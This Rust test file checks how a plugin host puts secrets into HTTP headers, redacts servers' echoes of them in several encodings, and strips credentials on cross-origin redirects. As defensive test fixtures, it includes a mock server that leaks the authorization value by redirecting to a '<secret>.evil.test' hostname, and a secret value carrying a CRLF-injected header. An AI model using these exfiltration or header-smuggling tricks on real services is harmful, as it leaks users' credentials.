//! Secrets in headers: put in by the host, and never told to the plugin by an answer.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use keyway_effects::Effects;
use keyway_effects::http::HttpOptions;
use keyway_effects::secrets::MemorySecrets;
use keyway_host::audit::Redactor;
use keyway_plugin_api::{EffectRequest, HttpResponse, ToolError, ToolErrorKind};

use super::{
    Names, ONE, Server, TWO, answer, fetch, local, network, ok, redirect, request, secret,
};

const CANARY: &str = "canary/http+7f3a=9c";

fn with_secrets(options: HttpOptions) -> (Effects, Redactor, tempfile::TempDir) {
    let (folder, redactor) = (tempfile::tempdir().unwrap(), Redactor::new());
    let secrets = MemorySecrets::new()
        .with("TOKEN", CANARY)
        .with("OTHER", "other-canary-55")
        .with("SHORT", "abc")
        .with("LINES", "line one\r\nx-injected: yes");
    let effects = Effects::builder(folder.path())
        .secrets(secrets)
        .redactor(redactor.clone())
        .http(options);
    (effects.build().unwrap(), redactor, folder)
}

fn one() -> Names {
    Names::default().with("one.test", &[ONE])
}

fn asking(server: &Server, headers: &[(&str, &str)]) -> EffectRequest {
    request(
        "GET",
        format!("http://one.test:{}/", server.port()),
        headers,
        None,
    )
}

fn send(server: &Server, headers: &[(&str, &str)]) -> (Result<HttpResponse, ToolError>, Redactor) {
    let (effects, redactor, _folder) = with_secrets(local(&one()));
    let within = [network(&["one.test"]), secret("TOKEN")];
    (fetch(&effects, &within, asking(server, headers)), redactor)
}

#[test]
fn the_host_puts_the_secret_in_and_everything_else_stays() {
    let server = Server::start(ONE, |_| ok(""));
    let headers = [
        ("authorization", "Bearer ${secret:TOKEN}"),
        ("x-twice", "${secret:TOKEN};${secret:TOKEN}"),
        ("x-dollar", "$5 ${other} {secret:TOKEN} $"),
    ];
    let (done, redactor) = send(&server, &headers);
    done.unwrap();
    let sent = server.requests().concat();
    assert!(
        sent.contains(&format!("authorization: Bearer {CANARY}\r\n")),
        "{sent}"
    );
    assert!(
        sent.contains(&format!("x-twice: {CANARY};{CANARY}\r\n")),
        "{sent}"
    );
    assert!(
        sent.contains("x-dollar: $5 ${other} {secret:TOKEN} $\r\n"),
        "{sent}"
    );
    assert_eq!(
        redactor.redact(CANARY),
        "[redacted]",
        "the trail's redactor has learnt it"
    );
}

#[test]
fn a_body_and_an_address_are_no_templates() {
    let server = Server::start(ONE, |_| ok(""));
    let (effects, _, _folder) = with_secrets(local(&one()));
    let url = format!("http://one.test:{}/$%7Bsecret:TOKEN%7D", server.port());
    let within = [network(&["one.test"]), secret("TOKEN")];
    let body = b"${secret:TOKEN}";
    fetch(&effects, &within, request("POST", url, &[], Some(body))).unwrap();
    let sent = server.requests().concat();
    assert!(
        sent.contains("${secret:TOKEN}") && !sent.contains(CANARY),
        "{sent}"
    );
}

#[test]
fn s_i1_a_secret_that_cannot_be_sent_stops_the_request() {
    let server = Server::start(ONE, |_| ok(""));
    let table = [
        (
            "${secret:OTHER}",
            ToolErrorKind::Unavailable,
            "the grant does not cover it",
        ),
        (
            "${secret:TOKEN",
            ToolErrorKind::InvalidArguments,
            "not closed",
        ),
        ("${secret:}", ToolErrorKind::InvalidArguments, "no secret"),
        (
            "${secret:LD_PRELOAD}",
            ToolErrorKind::InvalidArguments,
            "no secret",
        ),
        (
            "${secret:to ken}",
            ToolErrorKind::InvalidArguments,
            "no secret",
        ),
        (
            "${secret:${secret:TOKEN}}",
            ToolErrorKind::InvalidArguments,
            "no secret",
        ),
    ];
    for (value, kind, says) in table {
        let (done, _) = send(&server, &[("authorization", value)]);
        let error = done.unwrap_err();
        assert_eq!(error.kind, kind, "{value}: {error}");
        assert!(error.message.contains(says), "{value}: {error}");
    }
    let (effects, _, _folder) = with_secrets(local(&one()));
    for (name, says) in [
        ("SHORT", "too short"),
        ("NONE", "none of that name"),
        ("LINES", "not printable ASCII"),
    ] {
        let value = format!("${{secret:{name}}}");
        let within = [network(&["one.test"]), secret(name)];
        let asked = asking(&server, &[("authorization", &value)]);
        let error = fetch(&effects, &within, asked).unwrap_err();
        assert!(error.message.contains(says), "{name}: {error}");
        assert!(!error.message.contains("line one"), "{error}");
    }
    assert_eq!(server.connections(), 0);
}

fn hex(text: &str) -> String {
    text.bytes().map(|b| format!("{b:02X}")).collect()
}

fn percent(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

/// The forms in which a server says back what it was sent.
fn echoes() -> Vec<String> {
    vec![
        CANARY.to_owned(),
        CANARY.to_uppercase(),
        CANARY.chars().rev().collect(),
        STANDARD.encode(CANARY),
        URL_SAFE_NO_PAD.encode(CANARY),
        STANDARD.encode(format!("user:{CANARY}")),
        STANDARD.encode(format!("u:{CANARY}!")),
        percent(CANARY),
        CANARY
            .replace('/', "%2F")
            .replace('+', "%2B")
            .replace('=', "%3D"),
        hex(CANARY),
        CANARY.replace('/', "\\/"),
    ]
}

#[test]
fn s_i1_an_echo_does_not_tell_the_plugin_the_secret() {
    for echo in echoes() {
        let said = echo.clone();
        let server = Server::start(ONE, move |_| {
            let headers = format!("x-echo: a {said} b\r\nset-cookie: t={said}\r\n");
            answer(
                "401 No",
                &headers,
                format!("{{\"sent\": \"{said}\"}}").as_bytes(),
            )
        });
        let (done, _) = send(&server, &[("authorization", "Bearer ${secret:TOKEN}")]);
        let response = done.unwrap();
        let told = format!("{:?} {:?}", response.headers, response.text());
        if echo.contains("\\/") {
            // Escaped in a way of its own: a limit that the documentation names.
            continue;
        }
        assert!(!told.contains(&echo), "{told}");
        assert_eq!(
            response.header("x-echo").map(|v| v.contains("[redacted]")),
            Some(true)
        );
        assert!(response.text().unwrap().contains("[redacted]"), "{told}");
        // The control: a request that carries no secret gets the same answer as it is.
        let (done, _) = send(&server, &[("authorization", "Bearer none")]);
        let response = done.unwrap();
        assert!(response.text().unwrap().contains(&echo));
        assert!(response.header("x-echo").unwrap().contains(&echo));
    }
}

#[test]
fn s_i1_an_echo_in_bytes_that_are_no_text_is_found_too() {
    let server = Server::start(ONE, |_| {
        let body = [&[0xff, 0x00, 0xfe][..], CANARY.as_bytes(), &[0xff, 0xe9]].concat();
        answer("200 OK", "", &body)
    });
    let (done, _) = send(&server, &[("authorization", "${secret:TOKEN}")]);
    let expected = [&[0xff, 0x00, 0xfe][..], b"[redacted]", &[0xff, 0xe9]].concat();
    assert_eq!(done.unwrap().body, expected);
}

/// Compressed or in pieces an echo could not be found.
#[test]
fn s_i1_an_echo_cannot_hide_in_an_encoding_or_a_range() {
    let server = Server::start(ONE, |_| {
        answer("200 OK", "content-encoding: gzip\r\n", b"xx")
    });
    let with_secret = ("authorization", "${secret:TOKEN}");
    let (done, _) = send(&server, &[with_secret]);
    assert_eq!(done.unwrap_err().case.as_deref(), Some("HTTP_ENCODED"));
    let (done, _) = send(&server, &[]);
    assert!(done.is_ok(), "the control: without a secret it may");
    for range in ["range", "Range", "if-range"] {
        let (done, _) = send(&server, &[with_secret, (range, "bytes=0-3")]);
        assert_eq!(
            done.unwrap_err().case.as_deref(),
            Some("HTTP_HEADER"),
            "{range}"
        );
    }
    assert_eq!(server.connections(), 2);
    let (done, _) = send(&server, &[("range", "bytes=0-3")]);
    assert!(done.is_ok(), "the control: without a secret it may");
}

/// Two hosts that are both granted; the first redirects to the second, or to itself.
fn redirected(to_other: bool, headers: &[(&str, &str)]) -> String {
    let two = Server::start(TWO, |_| ok("two"));
    let other = two.port();
    let one = Server::start(ONE, move |request| match request.contains(" / ") {
        true if to_other => redirect(307, &format!("http://two.test:{other}/second")),
        true => redirect(307, "/second"),
        false => ok("one"),
    });
    let names = one_and_two();
    let (effects, _, _folder) = with_secrets(local(&names));
    let within = [network(&["one.test", "two.test"]), secret("TOKEN")];
    let url = format!("http://one.test:{}/", one.port());
    fetch(&effects, &within, request("GET", url, headers, None)).unwrap();
    let last = if to_other { &two } else { &one };
    last.requests().pop().unwrap()
}

fn one_and_two() -> Names {
    one().with("two.test", &[TWO])
}

#[test]
fn s_c8_what_is_for_one_origin_does_not_go_to_another() {
    let headers = [
        ("authorization", "Bearer plain"),
        ("cookie", "session=plain"),
        ("x-api-key", "${secret:TOKEN}"),
        ("x-kept", "kept"),
    ];
    let second = redirected(true, &headers);
    assert!(
        second.contains(" /second ") && second.contains("x-kept: kept"),
        "{second}"
    );
    for gone in ["authorization", "cookie", "x-api-key", CANARY, "plain"] {
        assert!(!second.contains(gone), "{gone}: {second}");
    }
    // The control: to itself they do go.
    let second = redirected(false, &headers);
    for kept in [
        "authorization: Bearer plain",
        "cookie: session=plain",
        CANARY,
    ] {
        assert!(second.contains(kept), "{kept}: {second}");
    }
}

/// Another port of the same host is another origin.
#[test]
fn s_c8_another_port_is_another_origin() {
    let second = Server::start(ONE, |_| ok(""));
    let port = second.port();
    let location = format!("http://one.test:{port}/");
    let first = Server::start(ONE, move |_| redirect(307, &location));
    let (done, _) = send(&first, &[("authorization", "${secret:TOKEN}")]);
    assert!(done.unwrap().is_success());
    assert!(!second.requests().concat().contains("authorization"));
}

/// A server can put what it was sent into the name of a host.
#[test]
fn s_i1_an_error_does_not_tell_the_secret_either() {
    let value = "canary-host-77aa";
    let server = Server::start(ONE, |request| {
        let sent = request
            .lines()
            .find_map(|l| l.strip_prefix("authorization: "));
        redirect(
            302,
            &format!("http://{}.evil.test/", sent.unwrap_or("nothing")),
        )
    });
    let folder = tempfile::tempdir().unwrap();
    let effects = Effects::builder(folder.path())
        .secrets(MemorySecrets::new().with("TOKEN", value))
        .http(local(&one()));
    let within = [network(&["one.test"]), secret("TOKEN")];
    let asked = asking(&server, &[("authorization", "${secret:TOKEN}")]);
    let error = fetch(&effects.build().unwrap(), &within, asked).unwrap_err();
    assert!(!format!("{error:?}").contains(value), "{error:?}");
    let denial = error.denial.unwrap();
    assert_eq!(denial.asked, "network:[redacted].evil.test[GET]");
    // The control: what is no secret is said.
    let asked = asking(&server, &[("authorization", value)]);
    let effects = super::effects(local(&one()));
    let error = fetch(&effects.0, &within, asked).unwrap_err();
    assert!(error.message.contains(value));
}
